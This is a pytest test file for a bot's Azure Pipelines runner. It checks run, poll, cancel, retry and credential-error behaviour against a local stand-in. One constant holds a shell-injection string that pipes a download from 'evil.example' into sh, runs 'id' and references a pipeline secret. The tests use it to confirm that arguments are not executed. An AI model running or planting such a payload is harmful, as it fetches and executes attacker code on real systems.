"""AzurePipelinesRunner against the Azure DevOps stand-in: run, poll, timeline, cancel."""

from __future__ import annotations

from collections.abc import AsyncIterator
from datetime import timedelta

import pytest

from teams_bot.automation import Job
from teams_bot.automation.pipelines import AzurePipelinesRunner, AzurePipelinesSpec, Secret, Timing
from tests.standins.azure_pipelines import ORG, PAT, PIPELINE_ID, PROJECT, AzureStandIn
from tests.standins.base import Script

FAST = Timing(poll_interval=0.02, cancel_timeout=5, backoff=0.01)
PARAMETERS = (("service", "{service}"), ("version", "{version}"), ("environment", "{env}"))
HOSTILE = "$(curl evil.example | sh); `id` ' \" \\ ${{ variables.secret }}"


def job(seconds: float = 10, **arguments: str) -> Job:
    values = {"service": "web", "version": "1.4.2", "env": "prod", **arguments}
    return Job(
        "deploy", arguments=values, timeout=timedelta(seconds=seconds), parameters=PARAMETERS
    )


@pytest.fixture
async def azure() -> AsyncIterator[AzureStandIn]:
    standin = AzureStandIn()
    async with standin.serve():
        yield standin


def runner(azure: AzureStandIn, token: str = PAT, ref: str | None = None) -> AzurePipelinesRunner:
    spec = AzurePipelinesSpec(
        organization_url=f"{azure.base_url}/{ORG}",
        project=PROJECT,
        pipeline_id=PIPELINE_ID,
        token=Secret("AZDO_PAT", token),
        ref=ref,
    )
    return AzurePipelinesRunner("azdo", spec, FAST)


async def test_success_with_steps_and_link(azure: AzureStandIn) -> None:
    lines: list[str] = []

    async def progress(line: str) -> None:
        lines.append(line)

    result = await runner(azure, ref="refs/heads/release").run(job(), progress)
    assert result.status == "succeeded", result.output_tail
    link = "https://dev.azure.com/contoso/Web Platform/_build/results?buildId=101"
    assert result.url == link
    assert "queued (waiting for an agent)" in lines
    assert ["running: Checkout", "running: Deploy", "running: Smoke test"] == [
        line for line in lines if line.startswith("running")
    ]
    assert lines[-2:] == ["succeeded", "result: succeeded"]
    (post,) = azure.requests("POST", "/runs")
    assert post.path == "/contoso/Web Platform/_apis/pipelines/12/runs"
    assert post.query == {"api-version": "7.1"}
    assert post.json() == {
        "templateParameters": {"service": "web", "version": "1.4.2", "environment": "prod"},
        "resources": {"repositories": {"self": {"refName": "refs/heads/release"}}},
    }


async def test_failing_run(azure: AzureStandIn) -> None:
    azure.script = Script(outcome="failure")
    result = await runner(azure).run(job())
    assert result.status == "failed"
    assert "result: failed" in result.output_tail
    assert "resources" not in azure.requests("POST", "/runs")[0].json()


async def test_hanging_run_times_out_and_is_cancelled(azure: AzureStandIn) -> None:
    azure.script = Script(outcome="hang")
    result = await runner(azure).run(job(seconds=1))
    assert result.status == "timed_out"
    (patch,) = azure.requests("PATCH", "/_apis/build/builds/101")
    assert patch.json() == {"status": "cancelling"} and patch.query == {"api-version": "7.1"}
    assert azure.runs[101].cancelled
    assert result.url and "buildId=101" in result.url


async def test_429_with_retry_after_then_success(azure: AzureStandIn) -> None:
    azure.fail_next(429, retry_after="1", path_contains="/runs")
    result = await runner(azure).run(job())
    assert result.status == "succeeded", result.output_tail
    assert len(azure.requests("POST", "/runs")) == 2 and len(azure.runs) == 1


async def test_remote_cancel_maps_to_cancelled(azure: AzureStandIn) -> None:
    azure.script = Script(outcome="hang")
    run = runner(azure)
    original = run.poll

    async def poll_and_cancel(api, remote):  # someone presses Cancel in Azure DevOps
        reading = await original(api, remote)
        azure.runs[101].cancelled = azure.runs[101].readings >= 3
        return reading

    run.poll = poll_and_cancel  # type: ignore[method-assign]
    result = await run.run(job())
    assert result.status == "cancelled" and "result: canceled" in result.output_tail


async def test_bad_token_fails_clearly_without_the_token(
    azure: AzureStandIn, caplog: pytest.LogCaptureFixture
) -> None:
    wrong = "wrongpat0000000000000000000000000000000000000000"
    result = await runner(azure, token=wrong).run(job())
    assert result.status == "error"
    assert "Azure Pipelines refused the credentials (HTTP 401)" in result.output_tail
    assert "Access Denied" in result.output_tail
    assert wrong not in result.output_tail and wrong not in caplog.text


async def test_undeclared_parameter_is_reported(azure: AzureStandIn) -> None:
    bad = Job("deploy", arguments={}, parameters=(("region", "weu"),))
    result = await runner(azure).run(bad)
    assert result.status == "error"
    assert (
        "HTTP 400" in result.output_tail and "Unexpected parameter 'region'" in result.output_tail
    )


async def test_injection_looking_arguments_travel_as_json_strings(azure: AzureStandIn) -> None:
    result = await runner(azure).run(job(version=HOSTILE))
    assert result.status == "succeeded"
    assert azure.runs[101].parameters["version"] == HOSTILE
